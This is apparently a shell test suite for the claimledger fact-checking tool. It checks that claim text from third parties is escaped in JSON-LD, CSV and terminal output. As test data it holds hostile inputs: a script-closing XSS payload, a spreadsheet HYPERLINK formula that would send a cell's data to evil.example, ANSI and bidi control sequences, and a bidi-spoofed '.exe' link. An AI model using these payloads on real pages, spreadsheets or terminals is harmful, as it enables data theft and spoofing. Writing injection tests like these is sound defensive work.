#!/bin/sh
# hostile.sh: third-party text (articles, claims, speakers, URLs) that tries
# to break out of where claimledger writes it: the ClaimReview <script>
# block, a spreadsheet's formulas, the terminal.  Stored text stays byte
# for byte what was given; what is written around it is made safe.
. "$(dirname "$0")/lib.inc"

cp "$FIX/vectors/owner.key" owner.key && chmod 600 owner.key
cp "$FIX/vectors/owner.key.pub" owner.key.pub
export CLAIMLEDGER_DIR="$T/led"
"$BIN" init --key owner.key --origin example.org/hostile --newsroom "Example Fact Check" \
	--newsroom-url https://factcheck.example/checks >/dev/null || not_ok "init"

# ---- ClaimReview: JSON-LD that stays inside its <script> element ---------
xss='Taxes </script><script>alert(1)</script> &amp; fell'
succeeds "add a claim whose text closes the script element" add "$xss" --speaker "Jane <b>Doe</b>" \
	--source "https://news.example/a?x=1&y=2" --date 2021-11-22 --key owner.key
xseq=$(sed -n 's/^seq \([0-9]*\) .*/\1/p' "$T/.out")
succeeds "rate it" rate "$xseq" --verdict false --key owner.key
succeeds "export --format claimreview" export --format claimreview --out cr.json
check "no raw '<', '>' or '&' byte anywhere in the file" sh -c '! grep -q "[<>&]" cr.json'
check "the text is there escaped" grep -q 'Taxes \\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\u0026amp; fell' cr.json
check "the file still parses back to the original texts and source" python3 -c '
import json, sys
a = json.load(open("cr.json", encoding="utf-8"))
assert a[0]["claimReviewed"] == sys.argv[1], a[0]["claimReviewed"]
assert a[0]["itemReviewed"]["author"]["name"] == "Jane <b>Doe</b>"
assert a[0]["itemReviewed"]["appearance"]["url"] == "https://news.example/a?x=1&y=2"' "$xss"

# ---- CSV: no formula reaches a spreadsheet unless --raw -----------------
formula='=HYPERLINK("https://evil.example/?d="&B2,"source")'
succeeds "add a claim whose text is a spreadsheet formula" add "$formula" \
	--speaker "@SUM(1+1)" --source https://news.example/b --date 2021-11-22 --key owner.key
succeeds "export --format csv" export --format csv --out guarded.csv
check "the formula cell gets a leading ' inside RFC 4180 quotes" \
	grep -qF ",\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"," guarded.csv
check "... so does an @ cell" grep -qF ",'@SUM(1+1)," guarded.csv
check "no cell starts with a formula character" python3 -c '
import csv
for row in csv.reader(open("guarded.csv", newline="", encoding="utf-8")):
    for cell in row:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell'
succeeds "export --format csv --raw" export --format csv --raw --out raw.csv
check "--raw writes the cell verbatim" \
	grep -qF ",\"=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"," raw.csv
check "python's csv module reads both back: ' + text, and the text" python3 -c '
import csv, sys
g = list(csv.DictReader(open("guarded.csv", newline="", encoding="utf-8")))
r = list(csv.DictReader(open("raw.csv", newline="", encoding="utf-8")))
assert len(g) == len(r) == 2
assert g[1]["text"] == "'"'"'" + sys.argv[1] and r[1]["text"] == sys.argv[1]
assert g[1]["speaker"] == "'"'"'@SUM(1+1)" and r[1]["speaker"] == "@SUM(1+1)"
assert g[0]["text"] == r[0]["text"] == sys.argv[2]' "$formula" "$xss"
fails 2 "--raw with another format" export --format claimreview --raw

# ---- the terminal: no control or bidi character reaches it raw ----------
# U+009B (CSI), U+009D (OSC), U+009C (ST), U+202E/U+202C (bidi override,
# pop) and ESC, as an article can hold them.
printf 'url https://news.example/hostile\ndate 2021-11-22\n\n\342\200\234Taxes will fall \302\23331m by \342\200\2562025\342\200\254 and \302\2350;evil\302\234 now,\342\200\235 said Jane Doe.\n\nJohn Smith said the \033[31mbudget\033[0m was balanced.\n' >art.txt
# no_raw FILE: none of those characters, as UTF-8 bytes, in FILE (also
# as the script $T/no_raw, for sh -c).
cat >"$T/no_raw" <<'EOF'
#!/bin/sh
exec python3 -c '
import sys
b = open(sys.argv[1], "rb").read()
sys.exit(any(c.encode() in b for c in "\u009b\u009c\u009d\u202e\u202c\u2066\x1b"))' "$1"
EOF
chmod +x "$T/no_raw"
no_raw() { "$T/no_raw" "$1"; }
# on_tty FILE ARGS...: run the binary with stdout on a terminal (a pty),
# its output in FILE.  The parent holds the pty open and reads up to a
# marker printed after the command, so nothing written is lost to the
# hang-up when the command exits.
on_tty() {
	f=$1; shift
	python3 -c '
import os, subprocess, sys
m, s = os.openpty()
p = subprocess.Popen(["sh", "-c", "\"$@\"; printf \"\\n@@end@@\\n\"", "sh"] + sys.argv[1:],
                     stdin=subprocess.DEVNULL, stdout=s, stderr=subprocess.DEVNULL)
out = b""
while b"@@end@@" not in out:
    b = os.read(m, 65536)
    if not b:
        break
    out += b
p.wait()
os.close(s)
out = out[:out.rfind(b"\r\n@@end@@")]
sys.stdout.buffer.write(out.replace(b"\r\n", b"\n"))' "$BIN" "$@" >"$f"
}

succeeds "extract an article with C1, bidi and ESC characters" extract art.txt
out >extract.txt
check "extract: no raw control or bidi character" no_raw extract.txt
check "extract: CSI, OSC, ST and the bidi override shown as escapes" \
	grep -qF 'Taxes will fall <U+009B>31m by <U+202E>' extract.txt
check "extract: ESC shown as an escape" grep -qF 'the <U+001B>[31mbudget<U+001B>[0m was' extract.txt
succeeds "extract --json, piped" extract art.txt --json
out >extract-pipe.jsonl
check "... keeps the characters byte for byte" sh -c 'grep -q "$(printf "\302\233")" "$1"' sh extract-pipe.jsonl
on_tty extract-tty.jsonl extract art.txt --json
check "extract --json on a terminal: no raw character" no_raw extract-tty.jsonl
check "... \\u escapes instead, the same JSON" python3 -c '
import json, sys
a = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
b = [json.loads(l) for l in open(sys.argv[2], encoding="utf-8")]
assert a == b and len(a) == 2, (a, b)
assert "\\u009b31m by \\u202e2025\\u202c" in open(sys.argv[2]).read()
assert "\u009b" in a[0]["text"] and "\u202e" in a[0]["text"]' extract-pipe.jsonl extract-tty.jsonl

fails 2 "import of the article: ESC is refused in a claim's text" import art.txt --key owner.key
check "... by the generic rules, the message escaped" grep -q 'control character U+001B not allowed' "$T/.err"
sed '/John Smith/d' art.txt >art-c1.txt
succeeds "import the article without the ESC claim (C1 and bidi are allowed)" \
	import art-c1.txt --key owner.key
printf '{"text":"Rates \\u009b2J rose \\u202efi\\u2066x","speaker":"Ann \\u202eeoD","source":"https://news.example/j","date":"2021-11-22"}\n' >c1.jsonl
succeeds "import a jsonl claim with C1 and bidi characters" import --jsonl c1.jsonl --key owner.key
jseq=$(sed -n 's/.*seq \([0-9]*\)\.\..*/\1/p' "$T/.out")
printf '{"text":"Rates \\u001b[2J rose","speaker":"Ann","source":"https://news.example/j","date":"2021-11-22"}\n' >esc.jsonl
fails 2 "a jsonl claim with ESC is refused" import --jsonl esc.jsonl --key owner.key

succeeds "list" list
out >list.txt
check "list: no raw control or bidi character" no_raw list.txt
check "list: the escapes in TEXT and SPEAKER" sh -c '
	grep -qF "Taxes will fall <U+009B>31" "$1" && grep -qF "Rates <U+009B>2J rose" "$1" &&
	grep -qF "Ann <U+202E>eoD" "$1"' sh list.txt
check "list rows still fit 80 columns" sh -c '
	while IFS= read -r line; do
		[ "$(printf %s "$line" | wc -m)" -le 80 ] || exit 1
	done <"$1"' sh list.txt
succeeds "show the jsonl claim" show "$jseq"
out >show.txt
check "show: no raw control or bidi character" no_raw show.txt
check "show: the escapes" sh -c '
	grep -qF "text: Rates <U+009B>2J rose <U+202E>fi<U+2066>x" "$1" &&
	grep -qF "speaker: Ann <U+202E>eoD" "$1"' sh show.txt
succeeds "list --json, piped" list --json
out >list-pipe.jsonl
check "... keeps the bodies byte for byte (their ids re-hash)" python3 -c '
import hashlib, sys
n = 0
for line in open(sys.argv[1], "rb"):
    i = line.index(b"\"body\":") + 7
    j = line.index(b",\"current\":") if b",\"current\":" in line else line.index(b",\"sig\":")
    assert hashlib.sha256(line[i:j]).hexdigest().encode() in line[:80]
    n += b"\xc2\x9b" in line[i:j]
assert n == 2, n' list-pipe.jsonl
on_tty list-tty.jsonl list --json
check "list --json on a terminal: no raw character" no_raw list-tty.jsonl
check "... the same JSON values" python3 -c '
import json, sys
a = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
b = [json.loads(l) for l in open(sys.argv[2], encoding="utf-8")]
assert a == b and len(a) >= 4' list-pipe.jsonl list-tty.jsonl
on_tty show-tty.jsonl show "$jseq" --json
check "show --json on a terminal: no raw character, same JSON" sh -c '
	"$0" show "$2" --json >show-pipe.jsonl && ! grep -q "$(printf "\302\233")" "$1" &&
	grep -q "$(printf "\302\233")" show-pipe.jsonl &&
	python3 -c "import json, sys; assert json.load(open(sys.argv[1])) == json.load(open(sys.argv[2]))" "$1" show-pipe.jsonl' \
	"$BIN" show-tty.jsonl "$jseq"

# Error lines quote arguments and ledger text: escaped, still one line.
fails 2 "an unknown id with CSI, ESC and a newline in it" show "$(printf 'ab\302\233\033[2J\ncd')"
check "... quoted with escapes" grep -qF "'ab<U+009B><U+001B>[2J<U+000A>cd'" "$T/.err"
check "... no raw character on stderr" no_raw "$T/.err"
fails 2 "a source with a bidi override" add "x" --speaker S --date 2021-11-22 \
	--source "$(printf 'https://news.example/\342\200\256gpj.exe')" --key owner.key
check "... quoted with the escape" grep -qF "'https://news.example/<U+202E>gpj.exe'" "$T/.err"

# The other human outputs that show ledger text.
rlo=$(printf '\342\200\256')
succeeds "config --newsroom with a CSI in it" config --newsroom "$(printf 'Desk \302\233')" --key owner.key
succeeds "config" config
check "config: the escape, no raw character" sh -c '
	grep -qF "newsroom: Desk <U+009B>" "$1" && "$2" "$1"' sh "$T/.out" "$T/no_raw"
succeeds "alias add with a bidi override" alias add "Wash${rlo}ington" "US${rlo} government" --key owner.key
succeeds "alias list" alias list
check "alias list: escapes, no raw character" sh -c '
	grep -qF "Wash<U+202E>ington" "$1" && grep -qF "US<U+202E> government" "$1" &&
	"$2" "$1"' sh "$T/.out" "$T/no_raw"
on_tty alias-tty.jsonl alias list --json
check "alias list --json on a terminal: \\u202e" grep -qF 'US\u202e government' alias-tty.jsonl
"$BIN" keygen --name "ed${rlo}itor" --out ed.key >/dev/null
succeeds "editor add, a name with a bidi override" editor add "ed${rlo}itor" ed.key.pub --key owner.key
succeeds "editor list" editor list
check "editor list: escapes in the name and key, no raw character" sh -c '
	[ "$(grep -cF "ed<U+202E>itor" "$1")" -eq 1 ] && grep -qF "ed<U+202E>itor+" "$1" &&
	"$2" "$1"' sh "$T/.out" "$T/no_raw"
"$BIN" init --ledger "$T/led2" --key owner.key --origin "news${rlo}room/log" >/dev/null
succeeds "stats of a ledger whose origin has a bidi override" stats --ledger "$T/led2"
check "stats: the escape, no raw character" sh -c '
	grep -qF "origin: news<U+202E>room/log" "$1" && "$2" "$1"' sh "$T/.out" "$T/no_raw"
on_tty stats-tty.json stats --ledger "$T/led2" --json
check "stats --json on a terminal: \\u202e" grep -qF '"origin":"news\u202eroom/log"' stats-tty.json
# verify-export quotes the owner key's name from the file it checks.
"$BIN" export --format jsonl --key owner.key --out good.jsonl >/dev/null
python3 -c '
import base64, hashlib, json, sys
lines = open("good.jsonl", "rb").read().split(b"\n")
h = json.loads(lines[0])
pk = base64.b64decode(h["owner"].split("+", 2)[2])[1:]
name = "evil\u202eowner"
kid = hashlib.sha256(name.encode() + b"\n\x01" + pk).digest()[:4].hex()
h["owner"] = "%s+%s+%s" % (name, kid, base64.b64encode(b"\x01" + pk).decode())
lines[0] = json.dumps(h, separators=(",", ":"), ensure_ascii=False).encode()
open("renamed.jsonl", "wb").write(b"\n".join(lines))'
fails 1 "verify-export of a header whose owner key name has a bidi override" \
	verify-export renamed.jsonl --pubkey owner.key.pub
check "... quoted with the escape, no raw character" sh -c '
	grep -qF "named '"'"'evil<U+202E>owner'"'"'" "$1" && "$2" "$1"' sh "$T/.err" "$T/no_raw"

finish
